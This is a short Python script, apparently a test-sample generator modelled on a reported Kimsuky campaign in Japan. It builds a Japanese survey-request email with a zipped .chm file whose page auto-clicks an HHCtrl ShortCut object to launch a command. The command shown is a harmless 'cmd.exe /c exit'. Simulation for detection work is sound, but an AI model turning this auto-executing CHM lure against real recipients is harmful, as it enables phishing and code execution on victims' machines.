"""A page of compiled help that presses a button which starts a program.
Scenario: JPCERT/CC on Kimsuky in Japan (July 2024)."""
from kit import *


def make():
    page = ("<html><head><meta charset='utf-8'></head><body>調査票<object id='x' classid='clsid:52a2aaae-085d-4187-97ea-8c30db990436' width='1' height='1'>"
            "<param name='Command' value='ShortCut'><param name='Button' value='Bitmap:shortcut'><param name='Item1' value=',cmd.exe,/c exit'>"
            "</object><script>x.Click();</script></body></html>")
    z = Zip().add("調査票.chm", chm([("index.html", page.encode())]), charset="utf-8").bytes()
    return (Mail("調査のお願い", "chousa.jimukyoku@gmail.com", to="lab@example.ac.jp", date="Mon, 08 Jul 2024 10:12:00 +0900")
            .text("ご担当者様\n\n調査へのご協力をお願いいたします。調査票を添付いたします。\n").attach("調査票.zip", z, "application/zip").bytes())
